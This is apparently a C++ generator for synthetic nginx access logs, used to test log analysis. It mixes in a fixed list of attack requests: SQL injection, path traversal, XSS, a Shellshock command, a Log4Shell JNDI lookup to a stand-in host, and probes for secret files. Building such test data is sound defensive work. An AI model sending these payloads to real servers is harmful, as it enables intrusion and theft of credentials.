// An access log in nginx's combined format, the same on every machine: generate BYTES ADDRESSES > access.log
//
// Shaped like a real one: addresses come by Zipf's law out of ADDRESSES (every one of them occurs, if there is room), paths
// out of some thousands, a dozen browsers and bots, one line in 200 an attack the built-in rules know, 4 % not found.
#include <charconv>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>
#include <vector>

namespace {

// xorshift64*
struct Random {
  std::uint64_t state = 0x9E3779B97F4A7C15;
  std::uint64_t next() {
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return state * 0x2545F4914F6CDD1D;
  }
  std::uint32_t below(std::uint32_t bound) { return static_cast<std::uint32_t>((next() >> 32) * bound >> 32); }
  double unit() { return static_cast<double>(next() >> 11) * 0x1.0p-53; }
};

constexpr std::string_view kAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.80 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.5.0",
};
constexpr std::string_view kWords[] = {"node",    "article", "images", "themes", "products", "about",  "search", "blog",
                                       "archive", "contact", "user",   "cart",   "news",     "events", "files",  "team"};
constexpr std::string_view kEndings[] = {"", "", "/", ".html", ".css", ".js", ".png", ".jpg", ".svg", ".woff2"};
constexpr std::string_view kAttacks[] = {"/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
                                         "/../../../../etc/passwd",
                                         "/wp-login.php",
                                         "/.env",
                                         "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
                                         "/cgi-bin/test.cgi?x=() { :; }; /bin/bash -c id",
                                         "/?x=${jndi:ldap://198.51.100.7/a}",
                                         "/phpmyadmin/index.php",
                                         "/.git/config",
                                         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"};
constexpr std::uint32_t kPaths = 4000;
constexpr std::uint32_t kAttackEvery = 200;
constexpr double kZipfExponent = 0.9;

void append_number(std::string& out, std::uint64_t number, int width = 0) {
  char digits[24];
  const auto end = std::to_chars(digits, digits + sizeof digits, number).ptr;
  for (auto size = end - digits; size < width; ++size) out += '0';
  out.append(digits, end);
}

std::string address(std::uint32_t number) {
  // An odd factor is a bijection; folding the first octet into the unicast space costs some, none below a million.
  std::uint32_t bits = number * 2654435761u;
  bits = (bits & 0x00FFFFFF) | (1 + (bits >> 24) % 126 + 64 * (bits >> 31)) << 24;
  std::string out;
  for (int shift = 24; shift >= 0; shift -= 8) {
    append_number(out, bits >> shift & 255);
    if (shift > 0) out += '.';
  }
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  const std::uint64_t bytes = argc > 1 ? std::strtoull(argv[1], nullptr, 10) : 0;
  const auto addresses = static_cast<std::uint32_t>(argc > 2 ? std::strtoul(argv[2], nullptr, 10) : 0);
  if (bytes == 0 || addresses == 0) {
    std::fprintf(stderr, "usage: generate BYTES ADDRESSES > access.log\n");
    return 2;
  }
  Random random;
  std::vector<std::string> paths;
  for (std::uint32_t i = 0; i < kPaths; ++i) {
    std::string path = "/";
    path += kWords[random.below(std::size(kWords))];
    path += '/';
    path += kWords[random.below(std::size(kWords))];
    path += '-';
    append_number(path, random.below(100'000));
    path += kEndings[random.below(std::size(kEndings))];
    paths.push_back(path);
  }
  const double power = 1 / (1 - kZipfExponent);
  constexpr std::size_t kFlushBytes = 1 << 20;
  std::string out;
  std::uint64_t written = 0, line = 0;
  while (written + out.size() < bytes) {
    // Every address once, spread over the log; the others by their rank.
    const bool turn = line % 4 == 0 && line / 4 < addresses;
    const auto rank = static_cast<std::uint32_t>(std::pow(random.unit(), power) * addresses);
    out += address(turn ? static_cast<std::uint32_t>(line / 4) : std::min(rank, addresses - 1));
    out += " - - [18/May/2026:";
    const std::uint64_t second = line / 60;  // 60 requests a second; a day's worth, then over again
    append_number(out, second / 3600 % 24, 2);
    out += ':';
    append_number(out, second / 60 % 60, 2);
    out += ':';
    append_number(out, second % 60, 2);
    const bool attack = random.below(kAttackEvery) == 0;
    const bool post = random.below(20) == 0;
    out += post ? " +0000] \"POST " : " +0000] \"GET ";
    out += attack ? kAttacks[random.below(std::size(kAttacks))] : std::string_view(paths[random.below(kPaths)]);
    if (!attack && random.below(8) == 0) {
      out += "?page=";
      append_number(out, random.below(500));
    }
    const std::uint32_t dice = random.below(1000);
    out += " HTTP/1.1\" ";
    append_number(out, attack || dice < 40 ? 404 : dice < 42 ? 500 : dice < 100 ? 304 : 200);
    out += ' ';
    append_number(out, random.below(60'000));
    out += " \"";
    if (random.below(3) == 0) out += "-";
    else out.append("https://www.example.org").append(paths[random.below(kPaths)]);
    out += "\" \"";
    out += kAgents[random.below(std::size(kAgents))];
    out += "\"\n";
    ++line;
    if (out.size() < kFlushBytes) continue;
    std::fwrite(out.data(), 1, out.size(), stdout);
    written += out.size();
    out.clear();
  }
  std::fwrite(out.data(), 1, out.size(), stdout);
  return std::ferror(stdout) != 0;
}
